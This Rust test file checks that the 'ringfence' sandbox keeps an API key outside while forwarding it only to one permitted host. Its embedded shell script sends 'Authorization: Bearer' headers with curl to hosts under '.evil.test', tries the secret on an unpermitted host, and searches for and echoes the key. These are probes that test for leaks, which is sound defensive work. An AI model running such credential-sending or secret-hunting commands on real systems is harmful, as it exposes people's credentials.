//! Secrets that never enter: a host outside is shown them, and nothing inside has them.

use std::process::Output;

use conformance::{Place, Ring, Stage, World};
use ringfence_test_ledger::require;

const SECRET: &str = "s3cret-that-never-enters";

/// What code inside does: clients that go by variables and by the system's bundle, another host, and a look around.
const SCRIPT: &str = r#"
curl --silent --show-error --header "Authorization: Bearer $API_KEY" "https://$HOST/curl"; echo
env --unset SSL_CERT_FILE --unset CURL_CA_BUNDLE curl --silent --show-error "https://$HOST/bundle"; echo
python3 -c 'import sys, urllib.request as r; print(r.urlopen(sys.argv[1], timeout=10).status)' "https://$HOST/python"
curl --silent --show-error --header "Authorization: Bearer $API_KEY" "https://$OTHER/other"; echo
curl --silent --output /dev/null --write-out '%{http_code}\n' "http://$HOST/clear"
python3 -c "$0" "$1"
echo "$API_KEY"
"#;

fn host(stage: Stage, name: &str) -> String {
    format!("s{:05x}{name}{:?}{:?}.evil.test", std::process::id(), stage.ring, stage.caller).to_lowercase()
}

fn said(output: &Output) -> String {
    format!("{}{}", String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr))
}

/// Runs the script on the host of a world whose caller has a credential for `host`.
fn run(stage: Stage, host: &str, other: &str, secret: Option<&str>) -> Output {
    let world = World::shared();
    let place = Place::on_the_host_of(world, stage.caller);
    let settings = place.path().join(".config/ringfence");
    fs_err::create_dir_all(&settings).expect("the place is ours");
    let config = format!("[[credentials]]\nhost = '{host}'\nvariable = 'API_KEY'\nplaceholder = 'API_KEY'\n");
    fs_err::write(settings.join("config.toml"), config).expect("the place is ours");
    let authority = place.path().join("authority.pem");
    fs_err::copy(world.authority(), &authority).expect("the place is ours");
    let mut command = stage.ringfence("run", &place);
    command.env("XDG_CONFIG_HOME", place.path().join(".config")).env("SSL_CERT_FILE", authority);
    command.env("RINGFENCE_LOG", "trace").envs(secret.map(|secret| ("API_KEY", secret)));
    command.args(["--allow", host, "--allow", other, "--json"]);
    command.args(["--env", &format!("HOST={host}"), "--env", &format!("OTHER={other}"), "--", "sh", "-c", SCRIPT]);
    let backwards: String = SECRET.chars().rev().collect();
    command.args([include_str!("search.py"), &backwards]).output().expect("ringfence can be started")
}

fn check(ring: Ring) {
    for stage in Stage::all_on(ring) {
        let (host, other) = (host(stage, "for"), host(stage, "not"));
        let output = run(stage, &host, &other, Some(SECRET));
        let said = said(&output);
        assert!(!said.contains(SECRET), "{stage:?}: it was told: {said}");
        let result: serde_json::Value =
            serde_json::from_slice(&output.stdout).unwrap_or_else(|error| panic!("{error}: {said}"));
        assert_eq!(
            result["stdout"], "ok\nok\n200\nok\n403\nlooked at many\nplaceholder-for-a-secret-that-stays-outside\n",
            "{stage:?}: {said}"
        );
        let heard = |[host, part]: [&str; 2]| {
            World::shared().arrivals(host).iter().filter(|arrival| arrival.data.contains(part)).count()
        };
        assert_eq!(heard([&format!("host: {host}"), &format!("authorization: bearer {SECRET}")]), 3, "{stage:?}");
        assert_eq!(heard([&host, "placeholder"]), 0, "{stage:?}");
        assert_eq!(heard([&format!("host: {other}"), "authorization: bearer placeholder"]), 1, "{stage:?}");
        assert_eq!(heard([&other, SECRET]), 0, "{stage:?}");
    }
}

#[test]
fn a_secret_reaches_its_host_and_nothing_inside_native() {
    require!(root, ordinary_user, binary, python3, curl, own_network, user_namespaces);
    check(Ring::Native);
}

#[test]
fn a_secret_reaches_its_host_and_nothing_inside_bwrap() {
    require!(root, ordinary_user, binary, python3, curl, own_network, user_namespaces, bwrap);
    check(Ring::Bwrap);
}

#[test]
fn a_secret_that_cannot_be_had_is_an_error_before_anything_runs() {
    require!(root, ordinary_user, binary, python3, curl, own_network, user_namespaces);
    let stage = Stage::all_on(Ring::Native).next().expect("somebody calls");
    let (host, other) = (host(stage, "missing"), host(stage, "unasked"));
    let output = run(stage, &host, &other, None);
    let said = said(&output);
    assert_eq!(output.status.code(), Some(2), "{said}");
    assert!(
        said.contains(&format!("cannot get the secret for `{host}` from variable API_KEY: it is not set")),
        "{said}"
    );
    assert!(said.contains("export API_KEY"), "{said}");
    assert!(World::shared().places_of(&host).is_empty());
    assert!(World::shared().places_of(&other).is_empty());
}
